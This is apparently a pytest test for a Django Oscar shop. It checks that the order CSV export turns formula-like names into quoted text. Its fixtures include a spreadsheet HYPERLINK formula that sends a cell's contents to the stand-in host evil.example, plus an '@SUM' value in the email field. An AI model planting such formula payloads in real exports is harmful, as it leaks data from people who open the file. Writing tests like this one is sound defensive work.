"""Oscar's order export (/dashboard/orders/?response_format=csv) is safe to open in a
spreadsheet: a shipping name written as a formula comes out as text."""

import csv
import io
from decimal import Decimal as D

import pytest
from django.utils import timezone
from oscar.core.loading import get_model
from oscar.test.factories import UserFactory

from shop.order.models import Order

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'
ShippingAddress = get_model("order", "ShippingAddress")
Country = get_model("address", "Country")


def test_the_order_export_writes_a_formula_name_as_text(client):
    country, _ = Country.objects.get_or_create(
        iso_3166_1_a2="GB", defaults={"name": "United Kingdom", "is_shipping_country": True}
    )
    address = ShippingAddress.objects.create(
        first_name=PAYLOAD, last_name="", line1="1 High St", line4="Walsall",
        postcode="WS1 1AA", country=country,
    )  # fmt: skip
    Order.objects.create(
        number="X100",
        guest_email="@SUM(1+1)@evil.example",
        currency="GBP",
        total_incl_tax=D("12.00"),
        total_excl_tax=D("10.00"),
        shipping_address=address,
        date_placed=timezone.now(),
    )
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    response = client.get("/dashboard/orders/", {"response_format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode().lstrip("\ufeff"))))
    header, row = rows[0], rows[1]
    assert row[0] == "X100"
    assert "'" + PAYLOAD in row
    assert "'@SUM(1+1)@evil.example" in row
    assert PAYLOAD not in row and len(header) == len(row)
